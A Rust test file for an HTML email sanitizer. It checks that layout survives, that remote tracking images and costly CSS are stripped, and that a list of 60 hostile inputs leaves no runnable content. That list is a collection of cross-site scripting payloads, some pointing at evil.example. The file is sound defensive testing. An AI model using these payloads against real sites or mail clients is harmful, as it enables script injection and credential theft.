use super::*;

fn shown(html: &str) -> String {
    let images = HashMap::from([("Pic@x".to_owned(), "/api/v1/attachments/a/content".to_owned())]);
    page(html, &images, false)
}

fn body(html: &str) -> String {
    let page = shown(html);
    let start = page.find("<body>").unwrap() + "<body>".len();
    page[start..page.len() - "</body></html>".len()].to_owned()
}

#[test]
fn a_letter_looks_as_it_was_laid_out() {
    let html = "<style>.a{color:red}</style><table width=600 bgcolor=#eeeeee><tr><td align=center class=a>\
        <font color=blue>Hello</font></td></tr></table><a href=\"https://shop.example/?a=1\">shop</a>";
    let clean = body(html);
    for kept in [
        "<style>.a{color:red}</style>",
        "bgcolor=\"#eeeeee\"",
        "align=\"center\"",
        "color=\"blue\"",
    ] {
        assert!(clean.contains(kept), "{kept}: {clean}");
    }
    assert!(clean.contains("target=\"_blank\"") && clean.contains("noreferrer"), "{clean}");
}

#[test]
fn pictures() {
    let clean = body(
        "<img src=\"cid:Pic@x\" width=10><img src=cid:other><img src=\"data:image/png;base64,AA==\">",
    );
    assert!(clean.contains("src=\"/api/v1/attachments/a/content\""), "{clean}");
    assert!(!clean.contains("cid:"), "{clean}");
    assert!(clean.contains("data:image/png"), "{clean}");
    let remote = "<img src=\"https://track.example/1.gif\">";
    let says = "<html data-remote-images>";
    assert!(!shown(remote).contains("track.example") && shown(remote).contains(says));
    assert!(page(remote, &HashMap::new(), true).contains("track.example"));
    assert!(!shown("<p>Hello").contains(says));
    assert!(shown("<p style=\"background:url(https://track.example/1)\">").contains(says));
}

#[test]
fn nothing_that_runs_is_left() {
    for html in HOSTILE {
        let clean = body(html).to_lowercase();
        for forbidden in [
            "<script",
            "<iframe",
            "<object",
            "<embed",
            "<svg",
            "<math",
            "<form",
            "<input",
            "<link",
            "<meta",
            "<base",
            "<template",
            "<noscript",
            "<video",
            "<audio",
            "srcdoc=",
            "formaction",
            "javascript:",
            "vbscript:",
            "data:text",
        ] {
            // Words that only look like it are words: they have lost their sign.
            assert!(!clean.contains(forbidden), "{forbidden} in {clean}, of {html}");
        }
        let tags = clean.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default());
        for tag in tags {
            let attributes = tag.split_whitespace().skip(1);
            assert!(!attributes.clone().any(|it| it.starts_with("on")), "{tag} of {html}");
        }
    }
}

#[test]
fn what_costs_too_much_to_draw_is_left_out() {
    let clean = body(
        "<p style=\"color:red;filter:blur(999px) !important;position:fixed;animation:x 1s\">x</p>",
    );
    assert!(clean.contains("color:red") && !clean.contains("blur"), "{clean}");
    assert!(!clean.contains("fixed") && !clean.contains("animation"), "{clean}");
}

#[test]
fn a_page_that_is_nested_without_end_is_shown_as_words() {
    let page = shown(&format!("{}words", "<div><b>".repeat(50_000)));
    assert!(page.contains("<pre>") && page.contains("words"));
}

const HOSTILE: [&str; 60] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img srcset=\"https://evil.example 1x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
    "<a href=\"/api/v1/session\" ping=\"https://evil.example\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=x>",
    "<applet code=x></applet>",
    "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<link rel=prefetch href=\"https://evil.example/\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x></svg>#x\"></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<style><script>alert(1)</script></style>",
    "<style></style><script>alert(1)</script>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"https://evil.example\">x",
    "<div style=\"width:expression(alert(1))\" onmouseover=alert(1)>x</div>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "</p><p/onclick=alert(1) id=\"__proto__\"><plaintext><script>alert(1)</script>",
];
